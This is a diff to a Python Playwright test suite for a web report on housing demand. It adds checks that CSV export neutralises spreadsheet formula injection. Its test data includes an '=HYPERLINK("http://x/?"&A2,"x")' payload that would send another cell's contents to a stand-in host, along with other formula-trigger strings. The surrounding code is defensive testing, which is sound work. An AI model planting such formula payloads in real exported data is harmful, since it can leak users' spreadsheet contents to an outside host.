@@ -21,19 +21,28 @@ from demand.report.html import report_page
 TABLE = "Expected numbers by financial year"
 WCAG = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
 AGREES = 0.005
+SAVED = {
+    '=HYPERLINK("http://x/?"&A2,"x")': '\'=HYPERLINK("http://x/?"&A2,"x")',
+    "=1+1": "'=1+1",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "-2+3": "'-2+3",
+    "1,2": "1,2",
+    "\u22121,234.5": "-1234.5",
+    "-\u00a31,200": "-1200",
+    "+2.5%": "+2.5%",
+    "-3 to 5": "-3 to 5",
+}
+"""What a cell says, and what a spreadsheet is given."""
 MOVED = {"fewer": 0.83, "to hostel": 0.37, "bed and breakfast": 575.0}
 """Values that the run has not worked out."""
 
 
 def _inputs() -> ReportInput:
     """Give a made-up run with levers."""
-    run = tried()
+    run = tried(empty="South")
     ledger = [
         {"name": f"{c.cost.name}: amount", "used_in": "costs", "placeholder": False, **c.cost.amount.model_dump(mode="json")}
         for c in run.cost.parts
-    ] + [
-        {"name": f"both: {c.name}", "used_in": "scenarios", "placeholder": False, **c.sizes[0].model_dump(mode="json")}
-        for c in run.case.scenarios[0].changes
     ]
     found = levers(run.case, history=run.history, cost=run.cost, spec=run.spec)
     base = made()
@@ -94,11 +103,15 @@ def test_every_table_can_be_saved_with_its_numbers_as_a_spreadsheet_reads_them(p
 
 def test_nothing_in_a_saved_table_runs_as_a_formula(page: Any, tmp_path: Path) -> None:
     cell = page.locator(".scroll > table tbody th").first
-    cell.evaluate("c => { c.textContent = '=HYPERLINK(\"x\")'; }")
-    with page.expect_download() as saved:
-        page.locator("button.save").first.click()
-    saved.value.save_as(tmp_path / "table.csv")
-    assert "\"'=HYPERLINK" in (tmp_path / "table.csv").read_text(encoding="utf-8-sig")
+    before = cell.text_content()
+    for text, saved_as in SAVED.items():
+        cell.evaluate("(c, text) => { c.textContent = text; }", text)
+        with page.expect_download() as saved:
+            page.locator("button.save").first.click()
+        saved.value.save_as(tmp_path / "table.csv")
+        with (tmp_path / "table.csv").open(encoding="utf-8-sig", newline="") as file:
+            assert saved_as in next(row for at, row in enumerate(csv.reader(file)) if at == 1)
+    cell.evaluate("(c, text) => { c.textContent = text; }", before)
 
 
 def _told(page: Any) -> tuple[float, float]:
@@ -114,15 +127,19 @@ def _choose(page: Any, label: str, option: str) -> None:
     page.get_by_role("combobox", name=label, exact=True).select_option(label=option)
 
 
-@pytest.mark.parametrize("moved", [{}, {"fewer": 0.83}, {"bed and breakfast": 575.0}, MOVED], ids=["none", "lever", "price", "all"])
-def test_levers_and_prices_say_what_python_says(page: Any, moved: dict[str, float]) -> None:
-    page.get_by_role("button", name="Back to the run").click()
-    _choose(page, "If", "Both")
+def _move(page: Any, moved: dict[str, float]) -> None:
     for name, value in moved.items():
         page.locator("#try label.lever", has_text=name.capitalize()).locator("input").evaluate(
             "(e, v) => { e.step = 'any'; e.value = v; e.dispatchEvent(new Event('input')); }", value
         )
-    run = tried(moved)
+
+
+@pytest.mark.parametrize("moved", [{}, {"fewer": 0.83}, {"bed and breakfast": 575.0}, MOVED], ids=["none", "lever", "price", "all"])
+def test_levers_and_prices_say_what_python_says(page: Any, moved: dict[str, float]) -> None:
+    page.get_by_role("button", name="Back to the run").click()
+    _choose(page, "If", "Both")
+    _move(page, moved)
+    run = tried(moved, empty="South")
     for area in (None, "North"):
         _choose(page, "For", area or "Everything")
         for year, wanted in answer(run, "both", area).items():
@@ -130,6 +147,29 @@ def test_levers_and_prices_say_what_python_says(page: Any, moved: dict[str, floa
             assert _told(page) == pytest.approx(wanted, rel=AGREES)
     said = page.locator("#try [role=status]").text_content()
     assert ("than the run says" in said) if moved else (said == "What do both do?")
+
+
+@pytest.mark.parametrize("ends", [(0.0, 0.0), (4.0, 20.5)], ids=["both off", "between and end"])
+@pytest.mark.parametrize("scenario", ["nights", "opened"])
+def test_several_numbers_of_people_add_up_as_in_python(page: Any, scenario: str, ends: tuple[float, float]) -> None:
+    moved = dict(zip((f"{scenario} a", f"{scenario} b"), ends, strict=True))
+    page.get_by_role("button", name="Back to the run").click()
+    _choose(page, "If", scenario.capitalize())
+    _move(page, moved)
+    run = tried(moved, empty="South")
+    area = "South" if scenario == "opened" else "North"
+    _choose(page, "For", area)
+    _choose(page, "In the year", "2027-28")  # the first year still has who was counted last in the South
+    assert _told(page) == pytest.approx(answer(run, scenario, area)["2027-28"], rel=AGREES, abs=0.05)
+    assert "about right" in page.locator("#try [role=status]").text_content()
+
+
+def test_a_lever_reaches_the_end_that_it_says(page: Any) -> None:
+    page.get_by_role("button", name="Back to the run").click()
+    _choose(page, "If", "Nights")
+    lever = page.get_by_role("slider", name="Nights a")
+    lever.press("End")
+    assert lever.get_attribute("aria-valuetext") == "held at 20.5; may be 0 to 20.5 (households)"
 
 
 def test_a_lever_is_moved_by_keyboard_and_says_where_it_stands(page: Any) -> None:
